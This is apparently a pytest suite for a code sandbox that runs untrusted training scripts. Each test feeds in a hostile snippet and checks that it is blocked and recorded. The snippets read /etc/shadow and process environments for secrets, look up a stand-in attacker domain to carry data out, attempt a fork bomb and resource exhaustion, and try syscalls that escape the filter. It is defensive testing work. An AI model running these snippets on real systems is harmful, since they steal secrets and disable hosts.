"""Real hostile scripts at both levels: each is held, and the record says what it tried."""

from __future__ import annotations

import os
import socket
import time
import uuid
from pathlib import Path

import pytest
from tests.sandbox.conftest import Run


def test_a_connection_to_a_listener_on_this_machine_never_arrives(attempt: Run) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        port = server.getsockname()[1]
        seen = attempt(
            f"""
            import socket
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=2).send(b"secret")
            except OSError as error:
                print(type(error).__name__)
            """
        )
        with pytest.raises(TimeoutError):
            server.accept()
    assert seen.outcome.stdout.tail == "PermissionError\n"
    assert f"connect to 127.0.0.1 port {port}" in seen.details
    assert not seen.outcome.clean


def test_datagrams_listening_and_bare_sockets_are_refused_and_named(attempt: Run) -> None:
    seen = attempt(
        """
        import socket
        def tried(what):
            try: what()
            except OSError: print("refused")
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        tried(lambda: udp.sendto(b"x", ("192.0.2.7", 514)))
        tried(lambda: socket.socket().bind(("0.0.0.0", 8080)))
        tried(lambda: socket.socket(socket.AF_INET6).connect(("2001:db8::1", 443)))
        tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).send(b"x"))
        socket.socket(socket.AF_INET)
        """
    )
    assert seen.outcome.stdout.tail.count("refused") >= 3
    for words in (
        "send to 192.0.2.7 port 514",
        "listen on 0.0.0.0 port 8080",
        "connect to 2001:db8::1 port 443",
        "open an AF_PACKET socket",
        "open an AF_INET socket",
    ):
        assert words in seen.details


def test_a_name_looked_up_in_dns_is_on_record_with_the_data_it_would_carry_out(
    attempt: Run,
) -> None:
    seen = attempt(
        """
        import socket
        try: socket.getaddrinfo("stolen-row-42.attacker.example", 443)
        except OSError as error: print("failed")
        """
    )
    assert seen.outcome.stdout.tail == "failed\n"
    assert "look up the name stolen-row-42.attacker.example" in seen.details


def test_the_docker_socket_way_out_is_closed(attempt: Run, tmp_path: Path) -> None:
    name = str(tmp_path / "local.sock")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(name)
        server.listen()
        server.settimeout(0.05)
        seen = attempt(
            f"""
            import socket
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try: socket.socket(socket.AF_UNIX, kind).connect({name!r}); print("connected")
                except OSError: pass
            try: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", {name!r})
            except OSError: pass
            """
        )
        with pytest.raises(TimeoutError):
            server.accept()
    assert "connected" not in seen.outcome.stdout.tail


def test_files_outside_the_inputs_cannot_be_read_and_are_named(attempt: Run) -> None:
    seen = attempt(
        """
        import os, glob
        for path in ("/etc/passwd", "/etc/shadow", "canary.txt", "../project/canary.txt",
                     f"/proc/{os.getppid()}/environ", "/var/log"):
            try: print("LEAK", open(path).read())
            except OSError: pass
        os.symlink("/etc/hostname", "model/link")
        try: print("LEAK", open("model/link").read())
        except OSError: pass
        os.unlink("model/link")
        """,
        environment={"X": "1"},
    )
    # In a process namespace the parent is bubblewrap's own, empty, init.
    leaked = [line for line in seen.outcome.stdout.tail.splitlines() if line.strip() != "LEAK"]
    assert not [line for line in leaked if "PATH" not in line and "LANG" not in line], leaked
    assert "read /etc/passwd" in seen.details
    assert "read canary.txt" in seen.details
    assert "read /etc/hostname" in seen.details
    assert "canary" not in seen.outcome.stdout.tail


def test_the_project_folder_cannot_be_read_by_its_absolute_path(
    attempt: Run, tmp_path: Path
) -> None:
    canary = tmp_path / "project/canary.txt"
    seen = attempt(f"print(open({str(canary)!r}).read())")
    assert "the canary" not in seen.outcome.stdout.tail
    assert seen.outcome.exit_code == 1
    assert "read canary.txt" in seen.details


def test_secrets_in_the_environment_are_not_visible(
    attempt: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CLOUD_TOKEN", "hunter2")
    seen = attempt(
        """
        import os, glob
        found = dict(os.environ)
        for name in glob.glob("/proc/[0-9]*/environ"):
            try: found[name] = open(name, "rb").read().decode()
            except OSError: pass
        print(found)
        """,
        environment={"DECLARED": "yes"},
    )
    assert "hunter2" not in seen.outcome.stdout.tail
    assert "'DECLARED': 'yes'" in seen.outcome.stdout.tail
    assert "'PYTHONHASHSEED': '0'" in seen.outcome.stdout.tail


def test_nothing_outside_the_output_is_written_changed_or_removed(attempt: Run) -> None:
    seen = attempt(
        """
        import os
        for path in ("train.py", "data/a.csv", "data/new", "../new", "/etc/new", "/usr/new"):
            for act in (lambda p: open(p, "a").write("x"), os.unlink, lambda p: os.chmod(p, 0),
                        lambda p: os.truncate(p, 0), lambda p: os.rename(p, "model/x"),
                        lambda p: os.link(p, "model/y"), lambda p: os.utime(p, (0, 0))):
                try: act(path)
                except OSError: pass
        """
    )
    project = seen.project
    assert (project / "data/a.csv").read_text() == "1,2\n"
    assert (project / "data/a.csv").stat().st_mode & 0o777 != 0
    assert (project / "data/a.csv").stat().st_mtime > 1_000_000
    assert (project / "train.py").read_text().lstrip().startswith("import os")
    assert sorted(path.name for path in project.iterdir()) == ["canary.txt", "data", "train.py"]
    assert not Path("/etc/new").exists()
    assert list(seen.output.iterdir()) == []
    for words in ("write train.py", "write data/a.csv", "write /etc/new", "write ../new"):
        assert words in seen.details


@pytest.mark.parametrize("how", ["all at once", "bit by bit", "by many children"])
def test_filling_memory_is_stopped(attempt: Run, how: str) -> None:
    code = {
        "all at once": "bytearray(50 << 30)",
        "bit by bit": "x = []\nwhile True: x.append(bytearray(8 << 20))",
        "by many children": (
            "import os, time\n"
            "for _ in range(4):\n"
            "    if os.fork() == 0:\n"
            "        x = bytearray(60 << 20)\n"
            "        time.sleep(60)\n"
            "time.sleep(60)"
        ),
    }[how]
    seen = attempt(code, memory_mb=128)
    assert seen.kinds == {"memory"}
    assert not seen.outcome.clean
    assert seen.outcome.peak_memory < 1 << 30


def test_a_fork_bomb_is_stopped_and_nothing_of_it_lives(attempt: Run) -> None:
    mark = f"bomb-{uuid.uuid4().hex}"
    seen = attempt(
        """
        import os
        while True:
            try: os.fork()
            except OSError: pass
        """,
        command=("python", "train.py", mark),
    )
    assert seen.kinds == {"processes"}
    assert "start more than 8 processes" in seen.details
    assert seen.outcome.signal == 9
    assert _alive(mark) == []


def test_an_endless_loop_that_ignores_every_signal_ends_at_its_time(attempt: Run) -> None:
    mark = f"loop-{uuid.uuid4().hex}"
    seen = attempt(
        """
        import signal
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        while True: pass
        """,
        seconds=1,
        command=("python", "train.py", mark),
    )
    assert seen.kinds == {"time"}
    assert seen.outcome.signal == 9
    assert _alive(mark) == []


@pytest.mark.parametrize("how", ["written", "sparse", "many", "temporary", "deleted"])
def test_output_beyond_its_limit_is_stopped(attempt: Run, how: str) -> None:
    fill = "\nwhile True:\n    f.write(b'x' * (1 << 20)); f.flush()"
    code = {
        "written": "f = open('model/x', 'wb')" + fill,
        "sparse": "open('model/x', 'wb').truncate(1 << 40)",
        "many": (
            "import time\nfor i in range(10): open(f'model/{i}', 'wb').write(b'x' * (1 << 20))\n"
            "time.sleep(60)"
        ),
        "temporary": "f = open('/'.join([os.environ['TMPDIR'], 'x']), 'wb')" + fill,
        "deleted": (
            "import tempfile, time\n"
            "f = [tempfile.TemporaryFile() for _ in range(3)]\n"
            "for x in f: x.write(b'x' * (4 << 20)); x.flush()\n"
            "time.sleep(60)"
        ),
    }[how]
    seen = attempt("import os\n" + code)
    assert seen.kinds == {"output"}
    assert not seen.outcome.clean


def test_a_daemon_that_leaves_its_parent_is_dead_after_the_run(attempt: Run) -> None:
    mark = f"daemon-{uuid.uuid4().hex}"
    seen = attempt(
        """
        import os, sys, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.close(1); os.close(2)
                while True:
                    open("model/beat", "w").write(str(time.time()))
                    time.sleep(0.005)
            os._exit(0)
        while not os.path.exists("model/beat"): time.sleep(0.005)
        """,
        command=("python", "train.py", mark),
    )
    assert seen.outcome.exit_code == 0
    assert _alive(mark) == []
    before = (seen.output / "beat").read_text()
    time.sleep(0.05)
    assert (seen.output / "beat").read_text() == before


def test_processes_outside_cannot_be_signalled(attempt: Run) -> None:
    seen = attempt(
        f"""
        import os, signal
        for pid in ({os.getpid()}, os.getppid(), -1, -{os.getpgrp()}):
            try: os.kill(pid, signal.SIGUSR1)
            except OSError: pass
        """
    )
    # SIGUSR1 would have ended this process. Inside a process namespace nobody else has a number.
    assert seen.outcome.stderr.tail == "" or "signal a process outside" in seen.details


def test_ways_around_the_filter_are_closed(attempt: Run) -> None:
    seen = attempt(
        """
        import ctypes, errno, os, platform
        libc = ctypes.CDLL(None, use_errno=True)
        x86 = platform.machine() == "x86_64"
        calls = {"io_uring_setup": 425, "clone3": 435, "unshare": 272 if x86 else 97,
                 "ptrace": 101 if x86 else 117, "mount": 165 if x86 else 40,
                 "memfd_create": 319 if x86 else 279, "bpf": 321 if x86 else 280}
        for name, number in calls.items():
            result = libc.syscall(number, 0x10000000 if name == "unshare" else 1, 0, 0, 0, 0)
            print(name, result, errno.errorcode.get(ctypes.get_errno()))
        print("setuid", libc.setuid(12345) and "refused")
        """
    )
    lines = seen.outcome.stdout.tail.splitlines()
    assert len(lines) == 8
    assert all(" -1 EPERM" in line or " -1 ENOSYS" in line for line in lines[:7]), lines
    assert lines[7] == "setuid refused"


def _alive(mark: str) -> list[str]:
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if mark.encode() in (folder / "cmdline").read_bytes():
                found.append(folder.name)
        except OSError:
            continue
    return found
